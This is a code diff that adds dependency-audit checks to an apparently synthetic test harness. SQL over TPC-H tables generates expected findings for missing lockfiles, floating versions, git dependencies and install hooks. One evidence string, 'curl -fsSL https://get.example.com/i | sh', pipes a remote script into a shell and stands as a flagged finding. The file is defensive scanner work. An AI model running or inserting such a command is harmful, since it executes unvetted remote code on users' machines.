@@ -759,3 +759,91 @@ FROM o WHERE k <= {HI.HISTORY_LIMIT}"""
 @register("history_findings", _history_sql())
 def history_findings(spark, sf):
     return HI.history_findings(T.commit_lines_from_conversations(spark, sf))
+
+
+# --------------------------------------------------------------------------
+# manifests and lockfiles (S5–S15, D7–D10) over the generated manifest files
+# --------------------------------------------------------------------------
+from codeaudit.sources import manifests as M  # noqa: E402
+
+_LINES_SQL = """
+    SELECT 'order-' || l.l_orderkey AS repo_id, l.l_orderkey, replace(p.p_name, ' ', '-') AS name, l.l_linenumber,
+           l.l_returnflag, l.l_linestatus, '1.' || l.l_linenumber || '.' || (p.p_size % 10) AS version,
+           CASE WHEN l.l_linestatus = 'O' AND l.l_returnflag = 'N' THEN '*'
+                WHEN l.l_linestatus = 'O' AND l.l_returnflag = 'A' THEN 'latest'
+                WHEN l.l_linestatus = 'O' AND l.l_returnflag = 'R' THEN 'github:acme/' || replace(p.p_name, ' ', '-') || '#main'
+                ELSE '^1.' || l.l_linenumber || '.0' END AS spec
+    FROM lineitem l JOIN part p ON l.l_partkey = p.p_partkey"""
+_FIRST_SQL = f"""
+    SELECT repo_id, l_orderkey, name, min({{'ln': l_linenumber, 'spec': spec, 'dev': l_returnflag = 'R'}}) AS d
+    FROM ({_LINES_SQL}) GROUP BY ALL"""
+
+
+def _mfiles(spark, sf):
+    return T.manifest_files_from_orders(spark, sf)
+
+
+@register("manifest_packages", f"""
+    SELECT DISTINCT repo_id, 'package-lock.json' AS manifest, name, version, 'npm' AS eco, bool_and(l_returnflag = 'R') AS dev
+    FROM ({_LINES_SQL}) x JOIN orders o ON x.l_orderkey = o.o_orderkey WHERE o.o_orderstatus = 'F'
+    GROUP BY repo_id, name, version
+    UNION ALL
+    SELECT DISTINCT repo_id, 'requirements.txt', name, version, 'PyPI', CAST(NULL AS BOOLEAN)
+    FROM ({_LINES_SQL}) x JOIN orders o ON x.l_orderkey = o.o_orderkey WHERE o.o_orderstatus = 'O'""")
+def manifest_packages(spark, sf):
+    return M.lockfile_packages(_mfiles(spark, sf)).distinct()
+
+
+_LOCKS = " / ".join(sorted(M.UNRESOLVED_MANIFESTS["package.json"][0]))
+
+
+@register("unlocked_manifests", f"""
+    SELECT f.repo_id, 'deps/unresolved-manifest' AS id,
+           'package.json has ' || count(*) || ' declared dependencies but no lockfile — CVE scan skipped for npm' AS title,
+           'medium' AS severity, 'deps' AS scanner, 'package.json' AS path, 0 AS line, 'package.json' AS evidence,
+           'Commit a lockfile ({_LOCKS}); without resolved versions this ecosystem is unchecked, not clean.' AS remediation,
+           'https://cwe.mitre.org/data/definitions/1104.html' AS reference
+    FROM ({_FIRST_SQL}) f JOIN orders o ON f.l_orderkey = o.o_orderkey WHERE o.o_orderstatus <> 'F'
+    GROUP BY f.repo_id""")
+def unlocked_manifests(spark, sf):
+    return M.unlocked_manifests(_mfiles(spark, sf))
+
+
+@register("floating_versions", f"""
+    SELECT repo_id,
+           CASE WHEN d.spec IN ('*', 'latest') THEN 'deps/floating-version' ELSE 'deps/git-dependency' END AS id,
+           CASE WHEN d.spec IN ('*', 'latest')
+                THEN name || ' is pinned to "' || d.spec || '" — resolves to whatever is newest at install time'
+                ELSE name || ' installs directly from a git ref, bypassing registry integrity checks' END AS title,
+           'medium' AS severity, 'deps' AS scanner, 'package.json' AS path, 0 AS line, name || ': ' || d.spec AS evidence,
+           CASE WHEN d.spec IN ('*', 'latest') THEN 'Pin a version range and let the lockfile carry reproducibility.'
+                ELSE 'Prefer a registry release, or pin an exact commit SHA.' END AS remediation,
+           CASE WHEN d.spec IN ('*', 'latest') THEN 'https://cwe.mitre.org/data/definitions/1357.html'
+                ELSE 'https://cwe.mitre.org/data/definitions/829.html' END AS reference
+    FROM ({_FIRST_SQL}) WHERE d.spec IN ('*', 'latest') OR starts_with(d.spec, 'github:')""")
+def floating_versions(spark, sf):
+    return M.floating_dependencies(_mfiles(spark, sf))
+
+
+@register("install_hooks", """
+    SELECT 'order-' || o_orderkey AS repo_id, 'deps/install-script-hook' AS id,
+           'package.json runs a `postinstall` lifecycle script on install'
+             || CASE WHEN o_orderpriority = '1-URGENT' THEN ' — pipes a remote script into a shell' ELSE '' END AS title,
+           CASE WHEN o_orderpriority = '1-URGENT' THEN 'high' ELSE 'medium' END AS severity, 'deps' AS scanner,
+           'package.json' AS path, 0 AS line,
+           CASE WHEN o_orderpriority = '1-URGENT' THEN 'curl -fsSL https://get.example.com/i | sh' ELSE 'node scripts/setup.js' END AS evidence,
+           'Review lifecycle scripts and run untrusted installs with scripts disabled.' AS remediation,
+           'https://cwe.mitre.org/data/definitions/506.html' AS reference
+    FROM orders WHERE o_orderpriority IN ('1-URGENT', '2-HIGH')
+      AND o_orderkey IN (SELECT l_orderkey FROM lineitem l JOIN part p ON l.l_partkey = p.p_partkey)""")
+def install_hooks(spark, sf):
+    return M.install_hooks(_mfiles(spark, sf))
+
+
+@register("declared_names", f"""
+    SELECT DISTINCT repo_id, 'npm' AS eco, lower(name) AS lname FROM ({_FIRST_SQL})
+    UNION
+    SELECT DISTINCT repo_id, 'PyPI', lower(name) FROM ({_LINES_SQL}) x JOIN orders o ON x.l_orderkey = o.o_orderkey
+    WHERE o.o_orderstatus = 'O'""")
+def declared_names(spark, sf):
+    return M.declared_names(_mfiles(spark, sf))
